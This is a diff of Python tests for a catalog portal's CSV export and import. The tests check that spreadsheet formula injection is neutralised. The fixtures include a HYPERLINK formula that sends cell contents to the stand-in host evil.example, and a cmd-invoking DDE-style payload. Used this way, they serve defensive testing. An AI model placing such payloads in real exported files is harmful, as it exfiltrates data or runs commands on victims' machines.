@@ -430,6 +430,30 @@ def test_staff_sees_certificate_image_of_any_item(app, browser, client_as, train
 # Export
 
 
+def _export(browser):
+    export = browser.get("/catalog/export.csv")
+    assert export.status_code == 200
+    return export
+
+
+def _import(browser, raw):
+    upload = browser.post(
+        "/catalog/import",
+        data={"file": (io.BytesIO(raw), "catalog.csv")},
+        content_type="multipart/form-data",
+    )
+    assert upload.status_code == 302
+    assert browser.post(upload.headers["Location"]).status_code == 302
+
+
+def _snapshot(app, org):
+    with app.app_context():
+        from portal.extensions import db
+
+        items = db.session.scalars(db.select(Item).where(Item.org_id == org.id).order_by(Item.sku))
+        return [tuple(getattr(i, f) for f in ITEM_FIELDS) for i in items]
+
+
 def test_merchant_exported_csv_round_trips_through_import(
     app, client_as, make_user, merchant_org, other_org, make_item
 ):
@@ -441,31 +465,64 @@ def test_merchant_exported_csv_round_trips_through_import(
     make_item(merchant_org, sku="CY-2", name="无价格", aliases=[], price_cents=None)
     exporter = client_as(make_user(Role.MERCHANT, merchant_org))
 
-    export = exporter.get("/catalog/export.csv")
+    export = _export(exporter)
 
-    assert export.status_code == 200
     assert export.mimetype == "text/csv"
     assert "attachment" in export.headers["Content-Disposition"]
     assert export.data.startswith("\ufeff".encode())
     rows = list(csv.DictReader(io.StringIO(export.data.decode("utf-8-sig"))))
     assert [r["sku"] for r in rows] == ["CY-1", "CY-2"]
+    assert rows[0]["price"] == "12800.50"
 
-    importer = client_as(make_user(Role.MERCHANT, other_org))
-    upload = importer.post(
-        "/catalog/import",
-        data={"file": (io.BytesIO(export.data), "catalog.csv")},
-        content_type="multipart/form-data",
-    )
-    assert upload.status_code == 302
-    assert importer.post(upload.headers["Location"]).status_code == 302
+    _import(client_as(make_user(Role.MERCHANT, other_org)), export.data)
+    assert _snapshot(app, other_org) == _snapshot(app, merchant_org)
 
-    def snapshot(org):
-        with app.app_context():
-            from portal.extensions import db
 
-            items = db.session.scalars(
-                db.select(Item).where(Item.org_id == org.id).order_by(Item.sku)
-            )
-            return [tuple(getattr(i, f) for f in ITEM_FIELDS) for i in items]
+FORMULA_TEXTS = {
+    "F-1": '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
+    "F-2": "+1+1",
+    "F-3": "-2+3+cmd' /C calc'!A0",
+    "F-4": "@SUM(1,2)",
+    "F-5": "'=typed with a quote already",
+    "F-6": "''-two quotes",
+}
 
-    assert snapshot(other_org) == snapshot(merchant_org)
+
+def test_merchant_export_writes_formula_text_as_text_and_import_gives_it_back(
+    app, client_as, make_user, merchant_org, other_org, make_item
+):
+    for sku, text in FORMULA_TEXTS.items():
+        make_item(
+            merchant_org, sku=sku, name=text, aliases=["@A1", "别名"], description=text,
+            cert_lab=text, cert_number=text, cert_grade=text, price_cents=500,
+        )  # fmt: skip
+    make_item(merchant_org, sku="=1+1", name="-5", aliases=[], price_cents=0)
+    exporter = client_as(make_user(Role.MERCHANT, merchant_org))
+
+    export = _export(exporter)
+
+    rows = list(csv.reader(io.StringIO(export.data.decode("utf-8-sig"))))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    by_sku = {row[0]: row for row in rows[1:]}
+    assert by_sku["F-1"][1] == "'" + FORMULA_TEXTS["F-1"]
+    assert by_sku["F-5"][1] == "'" + FORMULA_TEXTS["F-5"]
+    assert by_sku["F-6"][1] == "'''-two quotes"
+    assert by_sku["'=1+1"][1:2] == ["'-5"]
+    assert [by_sku[sku][4] for sku in ("F-1", "'=1+1")] == ["5.00", "0.00"]  # numbers stay
+
+    _import(client_as(make_user(Role.MERCHANT, other_org)), export.data)
+    assert _snapshot(app, other_org) == _snapshot(app, merchant_org)
+    names = {sku: name for sku, name, *_rest in _snapshot(app, other_org)}
+    assert names["F-1"] == FORMULA_TEXTS["F-1"]
+    assert names["=1+1"] == "-5"
+
+
+def test_merchant_export_quotes_text_starting_with_a_tab_or_carriage_return(
+    app, client_as, merchant, merchant_org, make_item
+):
+    make_item(merchant_org, sku="T-1", name="\t=1+1", description="\r=2+2")
+
+    rows = list(csv.reader(io.StringIO(_export(client_as(merchant)).data.decode("utf-8-sig"))))
+
+    assert (rows[1][1], rows[1][5]) == ("'\t=1+1", "'\r=2+2")
